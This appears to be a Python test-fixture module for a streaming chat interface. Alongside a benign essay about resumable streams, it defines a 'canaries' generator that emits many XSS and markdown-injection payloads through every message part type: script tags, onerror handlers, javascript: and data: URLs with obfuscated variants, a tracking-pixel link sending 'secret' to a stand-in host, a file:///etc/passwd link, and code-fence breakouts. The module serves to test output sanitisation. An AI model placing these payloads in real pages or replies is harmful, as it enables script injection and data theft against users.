"""A generator that says what must never run or load."""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator

from holdfast.errors import GenerationError
from holdfast.generation import GenerationRequest, Part

#: What people ask models for: headings, lists, a table, code.
ESSAY = """## Why an answer breaks off

A model writes for a minute, and a function lives for less. Between the two stand **a tab**, **a network** and
*a time limit*, and any of them can be the first to go:

1. The reader refreshes, and the connection is gone.
2. The function reaches its limit in the middle of a sentence.
3. The machine below it dies and says nothing.

### What each remedy costs

| Remedy | Survives a refresh | Survives a crash |
|---|:-:|:-:|
| Keep the connection open | no | no |
| Save the answer at its end | yes | no |
| Append it to a log as it is written | yes | yes |

### A log that nobody can write twice

An append names its own place, and the store refuses what is not greater than the last:

```python
async def append(log: Log, attempt: int, seq: int, parts: list[Part]) -> bool:
    # False if another attempt has begun.
    try:
        await log.add(f"{attempt}-{seq}", parts)
    except TooSmall:
        return await log.read(f"{attempt}-{seq}") == parts
    return True
```

> A reply that was lost is asked for again, and the store says that it is there already.

So a retry cannot duplicate, a zombie cannot interleave, and `Last-Event-ID` is all that a reader has to remember.
"""

ELSEWHERE = "https://elsewhere.invalid"
_RUN = "window.canary=1"
#: As a model may be made to write it; each line tries another way.
MARKDOWN = f"""# Canaries

<script>{_RUN}</script>
<img src=x onerror="{_RUN}">
<svg onload="{_RUN}"><circle /></svg>
<iframe srcdoc="<script>parent.canary=1</script>"></iframe>
<a href="javascript:{_RUN}">raw link</a>
<style>body {{ background: url({ELSEWHERE}/style) }}</style>
<form action="{ELSEWHERE}"><input name=q></form>

[script link](javascript:{_RUN}) [upper](JaVaScRiPt:{_RUN}) [tab](java\tscript:{_RUN})
[data](data:text/html,<script>{_RUN}</script>)
[vbscript](vbscript:x) [entity](&#106;avascript:{_RUN}) [protocol]({ELSEWHERE}/fine)
[file](file:///etc/passwd) <javascript:{_RUN}>

![pixel]({ELSEWHERE}/pixel.png?text=secret) ![script](javascript:{_RUN}) ![svg](data:image/svg+xml;base64,PHN2Zy8+)

![](http://) ![](https:) ![](https://[x) ![](https://a%zz/b.png) ![]({ELSEWHERE}/nameless.png) [none](https://[x)

| cell | <img src=x onerror={_RUN}> |
|---|---|
| [x](javascript:{_RUN}) | `<b>` |

```html" onmouseover="{_RUN}
<script>{_RUN}</script>
```

```python
print("</code></pre><script>{_RUN}</script>")
```

The last line."""


async def writes(request: GenerationRequest) -> AsyncIterator[str | Part]:
    """The essay, at a reader's pace, after a thought; what an interrupted call said is gone on from."""
    if not request.partial:
        yield {"type": "reasoning-start", "id": "r"}
        yield {"type": "reasoning-delta", "id": "r", "delta": "Who breaks it, what helps, and what it costs."}
        yield {"type": "reasoning-end", "id": "r"}
    for word in re.findall(r"\S+\s*", ESSAY[len(request.partial) :]):
        yield word
        await asyncio.sleep(0.025)


async def breaks(_request: GenerationRequest) -> AsyncIterator[str]:
    """Says half of a sentence and fails for good."""
    yield "The first half of a sentence, and "
    raise GenerationError("model_error", "The model is out of words.")


async def canaries(_request: GenerationRequest) -> AsyncIterator[str | Part]:
    """The same attack through every kind of part."""
    evil = f"<img src=x onerror={_RUN}>"
    yield {"type": "reasoning-start", "id": "r"}
    yield {"type": "reasoning-delta", "id": "r", "delta": MARKDOWN}
    yield {"type": "reasoning-end", "id": "r"}
    yield {"type": "tool-input-available", "toolCallId": "t", "toolName": evil, "input": {"html": evil}}
    yield {"type": "tool-output-available", "toolCallId": "t", "output": evil}
    yield {"type": "source-url", "sourceId": "s", "url": f"javascript:{_RUN}", "title": evil}
    yield {"type": "source-document", "sourceId": "d", "mediaType": "text/html", "title": evil}
    yield {"type": "file", "url": f"data:text/html,<script>{_RUN}</script>", "mediaType": "text/html"}
    yield {"type": "file", "url": f"javascript:{_RUN}", "mediaType": "image/png"}
    yield {"type": "file", "url": f"{ELSEWHERE}/file.png", "mediaType": "image/png"}
    yield {"type": "data-weather", "data": {"html": evil}}
    for start in range(0, len(MARKDOWN), 40):  # cut anywhere, as a stream is
        yield MARKDOWN[start : start + 40]
